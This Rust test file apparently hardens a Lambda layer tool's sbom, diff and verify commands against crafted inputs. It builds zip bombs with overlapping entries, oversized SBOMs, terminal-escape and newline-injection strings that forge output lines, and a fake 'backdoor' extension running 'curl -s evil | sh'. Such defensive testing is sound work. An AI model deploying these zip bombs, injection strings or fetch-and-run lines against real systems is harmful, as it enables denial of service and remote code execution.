//! The commands that read someone else's zip and the files beside it (`sbom`, `diff`, `verify`)
//! against crafted inputs: every zip through the canonical scan and the size caps, every file
//! beside a zip counted only once checked against it, every value from an input escaped on
//! every stream (issue 25, findings 1, 2, 3, 4, 7, 11, 12, 16).

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use sha2::{Digest, Sha256};

use crate::layer::{Layer, MANIFEST, ZIP};
use crate::rawzip::{self, Layout, RawEntry, get16, get32};
use crate::run::{self, Outcome};

/// What a terminal acts on or hides text with; the one escaping lets none of them through.
fn hostile_char(c: char) -> bool {
    (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_clean(what: &str, text: &str) {
    let raw: Vec<String> = text
        .chars()
        .filter(|&c| hostile_char(c))
        .map(|c| format!("U+{:04X}", c as u32))
        .collect();
    assert!(raw.is_empty(), "{what}: raw {raw:?} in:\n{text}");
}

fn layerbuild(dir: &Path, args: &[&str]) -> Command {
    let mut cmd = run::layerbuild(dir);
    cmd.args(args);
    cmd
}

/// Bounded in time and address space (so a regression fails instead of eating the machine),
/// with the program's own peak memory.
fn measured(mut cmd: Command, secs: u64) -> Outcome {
    run::limit_memory(&mut cmd, 3 << 30);
    run::run_measured(cmd, Duration::from_secs(secs))
}

/// A member of `size` zero bytes, deflated once (a few hundred KB for 250 MB).
fn zeros(name: &str, size: usize) -> RawEntry {
    rawzip::big_entry(name, 0o644, &vec![0u8; 1 << 16], size >> 16)
}

const MEMBER: usize = 250 << 20;

/// One member, then `copies` central entries all pointing at its local header.
fn overlapping(member: &RawEntry, copies: usize) -> Vec<u8> {
    let one = rawzip::write(std::slice::from_ref(member), &Layout::default());
    let eocd = one.len() - 22;
    let cd = get32(&one, eocd + 16) as usize;
    let central = one[cd..eocd].to_vec();
    let mut out = one[..cd].to_vec();
    for i in 0..copies {
        let mut c = central.clone();
        // Same length as the member's name, so the record keeps its shape.
        let name = format!("m{i:0w$}", w = member.name.len() - 1);
        c[46..46 + name.len()].copy_from_slice(name.as_bytes());
        out.extend_from_slice(&c);
    }
    let cd_len = out.len() - cd;
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(copies as u16).to_le_bytes());
    out.extend_from_slice(&(copies as u16).to_le_bytes());
    out.extend_from_slice(&(cd_len as u32).to_le_bytes());
    out.extend_from_slice(&(cd as u32).to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    assert_eq!(get16(&out, out.len() - 12), copies as u16);
    out
}

/// Finding 1: `sbom` reads a zip as `verify` does: the canonical scan refuses entries that
/// share their data, the unzipped cap refuses members that add up past what Lambda unpacks,
/// both before a byte is inflated.
#[test]
fn sbom_refuses_overlapping_and_multi_member_bombs() {
    let d = tempfile::tempdir().unwrap();
    let member = zeros("m00", MEMBER);
    std::fs::write(d.path().join("overlap.zip"), overlapping(&member, 8)).unwrap();
    let members: Vec<RawEntry> = (0..8)
        .map(|i| RawEntry {
            name: format!("python/m{i}").into_bytes(),
            ..member.clone()
        })
        .collect();
    std::fs::write(d.path().join("many.zip"), rawzip::write(&members, &Layout::default())).unwrap();
    for (zip, words) in [
        ("overlap.zip", &["overlaps", "local header names"][..]),
        ("many.zip", &["over the", "limit"][..]),
    ] {
        let out = measured(layerbuild(d.path(), &["sbom", zip]), 60);
        eprintln!(
            "sbom {zip}: exit {:?} in {:?}, peak {} KiB",
            out.code(),
            out.elapsed,
            out.max_rss_kib
        );
        out.expect_code(1, &format!("sbom {zip}"));
        assert!(words.iter().any(|w| out.stderr.contains(w)), "{zip}: {}", out.stderr);
        assert!(out.elapsed < Duration::from_secs(10), "{zip}: {:?}", out.elapsed);
        assert!(out.max_rss_kib < 100 << 10, "{zip}: {} KiB", out.max_rss_kib);
        assert!(out.stdout.is_empty(), "{zip}: an SBOM was printed");
    }
}

/// An SBOM of `n` small valid components (about 30 bytes each): the parser's memory is some
/// 60 times the document's.
fn components(n: usize) -> Vec<u8> {
    let one = br#"{"type":"library","name":"x"},"#;
    let mut doc = br#"{"bomFormat":"CycloneDX","specVersion":"1.5","version":1,"components":["#.to_vec();
    doc.extend_from_slice(&one.repeat(n));
    doc.extend_from_slice(br#"{"type":"library","name":"x"}]}"#);
    doc
}

/// Finding 2: the SBOM beside a zip is hashed before it is parsed, so one that is not the
/// file the manifest records never reaches the JSON parser; and one the manifest's (rewritten)
/// hash vouches for is parsed only within what a layer of that size can have.
#[test]
fn verify_hashes_the_sbom_beside_a_zip_before_parsing_it() {
    let l = Layer::new();
    let sbom = l.dir.path().join(ZIP.replace(".zip", ".cdx.json"));
    let report = |what: &str, out: &Outcome| {
        eprintln!(
            "{what}: exit {:?} in {:?}, peak {} KiB",
            out.code(),
            out.elapsed,
            out.max_rss_kib
        );
    };
    // Within the size cap, but not the file the manifest hashed.
    std::fs::write(&sbom, components(20_000)).unwrap();
    let out = measured(l.verify_cmd(), 60);
    report("verify, another SBOM", &out);
    out.expect_code(1, "verify with another SBOM beside the zip");
    assert!(out.stderr.contains("changed after the build"), "{}", out.stderr);
    // 55 MB, with the manifest's record rewritten to match.
    let doc = components((55 << 20) / 30);
    std::fs::write(&sbom, &doc).unwrap();
    l.edit_manifest(|m| m["sbom"]["sha256"] = crate::layer::sha(&doc).into());
    let out = measured(l.verify_cmd(), 60);
    report("verify, 55 MB SBOM vouched for", &out);
    out.expect_code(1, "verify with a 55 MB SBOM the manifest vouches for");
    assert!(out.stderr.contains("limit"), "{}", out.stderr);
    assert!(out.max_rss_kib < 200 << 10, "peak {} KiB", out.max_rss_kib);
}

/// Finding 3: a manifest beside a zip speaks for it only once it verifies against the zip: one
/// whose zip record was rewritten to the new zip's hash does not hide an added extension.
#[test]
fn diff_reads_the_zip_when_the_manifest_beside_it_does_not_verify() {
    let l = Layer::new();
    std::fs::copy(l.manifest_path(), l.dir.path().join("old.manifest.json")).unwrap();
    let mut entries = rawzip::read(&l.bytes());
    entries.push(RawEntry::stored(
        "extensions/backdoor",
        0o755,
        b"#!/bin/sh\ncurl -s evil | sh\n",
    ));
    l.replace_zip(&rawzip::write(&entries, &Layout::default()));
    let out = run::run(
        layerbuild(l.dir.path(), &["diff", "old.manifest.json", ZIP]),
        Duration::from_secs(60),
    );
    out.expect_code(1, "diff against a zip with an added extension");
    assert!(
        out.stdout.contains("+") && out.stdout.contains("extensions/backdoor"),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains(MANIFEST) && out.stderr.contains("does not describe"),
        "{}",
        out.stderr
    );
    // The same manifest, true to its zip, still speaks for it.
    let again = Layer::new();
    std::fs::copy(again.manifest_path(), again.dir.path().join("old.manifest.json")).unwrap();
    run::run(
        layerbuild(again.dir.path(), &["diff", "old.manifest.json", ZIP]),
        Duration::from_secs(60),
    )
    .expect_code(0, "diff of a layer and its own manifest");
}

const FORGE: &str = "\u{1b}[2K\r\u{7}\u{9b}1A\u{202e}";

/// Finding 4: what `diff` prints of names, versions and runtimes (text and JSON), and its own
/// errors and notes, is escaped.
#[test]
fn diff_escapes_names_versions_runtimes_and_its_errors() {
    let l = Layer::new();
    let old = l.manifest();
    let mut new = old.clone();
    new["layer"]["runtimes"] = serde_json::json!([format!("python3.9{FORGE}")]);
    new["layer"]["arch"] = format!("arm64{FORGE}").into();
    new["packages"] = serde_json::json!([{"name": format!("evil{FORGE}"), "version": format!("1{FORGE}"),
        "wheel": "w", "sha256": "0", "runtimes": []}]);
    new["entries"][0]["path"] = format!("extensions/x{FORGE}").into();
    new["collector"]["sha256"] = format!("ab{FORGE}{FORGE}").into();
    new["collector"]["module_version"] = format!("v1{FORGE}").into();
    let write = |name: &str, v: &serde_json::Value| {
        std::fs::write(l.dir.path().join(name), serde_json::to_vec(v).unwrap()).unwrap();
    };
    write("old.manifest.json", &old);
    write("new.manifest.json", &new);
    for extra in [&[][..], &["--json"][..]] {
        let mut args = vec!["diff", "old.manifest.json", "new.manifest.json"];
        args.extend_from_slice(extra);
        let out = run::run(layerbuild(l.dir.path(), &args), Duration::from_secs(60));
        out.expect_code(1, &format!("diff {extra:?}"));
        assert!(out.stdout.contains("evil"), "{}", out.stdout);
        assert_clean(&format!("diff {extra:?} stdout"), &out.stdout);
        if extra.is_empty() {
            let lines = out.stdout.lines().count();
            assert!(out.stdout.contains("\\x1b[2K\\r"), "{}", out.stdout);
            assert!(lines < 20, "{lines} lines:\n{}", out.stdout);
        } else {
            let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
            let runtimes = &v["diff"]["runtimes"][1][0];
            assert_eq!(runtimes, &format!("python3.9{FORGE}"), "the JSON means what it did");
        }
    }
    // Its own errors and notes quote paths and entry names: one line each, escaped.
    let missing = format!("gone{FORGE}\nlayerbuild: ok.zip");
    let out = run::run(
        layerbuild(l.dir.path(), &["diff", "old.manifest.json", &missing]),
        Duration::from_secs(60),
    );
    out.expect_code(2, "diff of a missing file");
    assert_clean("diff error", &out.stderr);
    assert_eq!(out.stderr.trim_end().lines().count(), 1, "{}", out.stderr);
    let named = rawzip::write(
        &[RawEntry::stored(&format!("python/x{FORGE}\nok"), 0o644, b"x")],
        &Layout::default(),
    );
    std::fs::write(l.dir.path().join("named.zip"), named).unwrap();
    let out = run::run(
        layerbuild(l.dir.path(), &["diff", "named.zip", "named.zip"]),
        Duration::from_secs(60),
    );
    assert!(out.code() == Some(0) || out.code() == Some(2), "{:?}", out.code());
    assert_clean("diff notes", &out.stderr);
    assert_clean("diff stdout", &out.stdout);
}

/// Finding 7: `diff` streams each entry through sha256; 60,000 tiny members cost no buffer
/// each.
#[test]
fn diff_of_sixty_thousand_tiny_entries_streams_them() {
    let d = tempfile::tempdir().unwrap();
    let entries: Vec<RawEntry> = (0..60_000)
        .map(|i| RawEntry::deflated(&format!("python/f{i:05}"), 0o644, b"x"))
        .collect();
    std::fs::write(d.path().join("a.zip"), rawzip::write(&entries, &Layout::default())).unwrap();
    std::fs::copy(d.path().join("a.zip"), d.path().join("b.zip")).unwrap();
    let out = measured(layerbuild(d.path(), &["diff", "a.zip", "b.zip"]), 120);
    eprintln!(
        "diff: exit {:?} in {:?}, peak {} KiB",
        out.code(),
        out.elapsed,
        out.max_rss_kib
    );
    out.expect_code(0, "diff of a zip with itself");
    assert!(out.max_rss_kib < 150 << 10, "peak {} KiB", out.max_rss_kib);
}

/// Finding 11: nothing from a manifest's `sbom` record or from an SBOM's fields reaches
/// `verify`'s stderr raw: a newline in them forges no `ok` line.
#[test]
fn verify_forges_no_line_from_sbom_fields() {
    let forged = "\nok dist/forged.zip (1 entries, 1 bytes, sha256 0; also checked it)";
    // The manifest names another SBOM file.
    let l = Layer::new();
    l.edit_manifest(|m| m["sbom"]["file"] = format!("x.cdx.json{forged}").into());
    std::fs::write(l.dir.path().join(ZIP.replace(".zip", ".cdx.json")), b"{}").unwrap();
    let out = l.verify();
    out.expect_code(1, "verify with a newline in sbom.file");
    assert!(!out.stderr.contains("\nok "), "{}", out.stderr);
    assert_clean("verify stderr", &out.stderr);
    // The SBOM is the one the manifest records, and its fields hold the newline.
    let l = Layer::new();
    let doc = serde_json::json!({
        "bomFormat": "CycloneDX", "specVersion": "1.5", "version": 1,
        "metadata": {"component": {"type": "library", "name": format!("x{forged}"),
            "hashes": [{"alg": "SHA-256", "content": format!("ab{forged}")}]}}
    });
    let bytes = serde_json::to_vec(&doc).unwrap();
    std::fs::write(l.dir.path().join(ZIP.replace(".zip", ".cdx.json")), &bytes).unwrap();
    let sha = hex::encode(Sha256::digest(&bytes));
    l.edit_manifest(|m| m["sbom"]["sha256"] = sha.clone().into());
    let out = l.verify();
    out.expect_code(1, "verify with a newline in the SBOM's fields");
    assert!(!out.stderr.contains("\nok "), "{}", out.stderr);
    assert_eq!(out.stderr.trim_end().lines().count(), 1, "{}", out.stderr);
}

/// A zip of `files` (stored, mode 0644; names ending in `/` are folders).
fn zip_of(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let entries: Vec<RawEntry> = files
        .iter()
        .map(|(n, data)| match n.ends_with('/') {
            true => RawEntry::dir(n, 0o755),
            false => RawEntry::stored(n, 0o644, data),
        })
        .collect();
    rawzip::write(&entries, &Layout::default())
}

/// Finding 12: the SBOM `sbom` prints carries names, METADATA fields and Go build settings
/// escaped: the same document to a parser, nothing raw for a terminal.
#[test]
fn sbom_escapes_names_metadata_and_build_info() {
    let d = tempfile::tempdir().unwrap();
    let odd = "\u{7f}\u{85}\u{9b}31m\u{202e}";
    let dist = "python/evil-1.0.dist-info";
    let blob = crate::common::go_buildinfo(
        "go1.22.1",
        &format!(
            "path\texample.com/c{odd}\nmod\texample.com/c{odd}\tv1.0.0\t\nbuild\tGOARCH=amd64\nbuild\t-tags=x{odd}\n"
        ),
    );
    let files = vec![
        (
            format!("{dist}/METADATA"),
            format!("Name: evil{odd}\nVersion: 1.0{odd}\nLicense: MIT{odd}\n").into_bytes(),
        ),
        (format!("{dist}/RECORD"), b"".to_vec()),
        (format!("python/file{odd}.py"), b"x".to_vec()),
        (
            "extensions/collector".to_string(),
            crate::common::fake_go_elf(crate::common::EM_X86_64, &blob),
        ),
    ];
    std::fs::write(d.path().join("odd.zip"), zip_of(&files)).unwrap();
    let out = run::run(layerbuild(d.path(), &["sbom", "odd.zip"]), Duration::from_secs(60));
    out.expect_code(0, "sbom of odd names");
    assert_clean("sbom stdout", &out.stdout);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let text = doc.to_string();
    for want in [
        format!("evil{odd}"),
        format!("python/file{odd}.py"),
        format!("-tags=x{odd}"),
    ] {
        let quoted = serde_json::to_string(&want).unwrap();
        assert!(
            text.contains(quoted.trim_matches('"')),
            "{want:?} lost from the document"
        );
    }
}

/// Finding 16: the SBOM of paths 32,000 folders deep takes a walk along each, not one lookup
/// per folder it is in.
#[test]
fn sbom_of_deep_paths_is_linear() {
    let d = tempfile::tempdir().unwrap();
    let deep = "a/".repeat(32_000);
    let mut files: Vec<(String, Vec<u8>)> = (0..20).map(|i| (format!("{deep}f{i}"), b"x".to_vec())).collect();
    files.push((
        "python/p-1.0.dist-info/METADATA".into(),
        b"Name: p\nVersion: 1.0\n".to_vec(),
    ));
    std::fs::write(d.path().join("deep.zip"), zip_of(&files)).unwrap();
    let out = measured(layerbuild(d.path(), &["sbom", "deep.zip", "-o", "deep.cdx.json"]), 120);
    eprintln!("sbom: exit {:?} in {:?}", out.code(), out.elapsed);
    out.expect_code(0, "sbom of deep paths");
    assert!(out.elapsed < Duration::from_secs(3), "{:?}", out.elapsed);
}
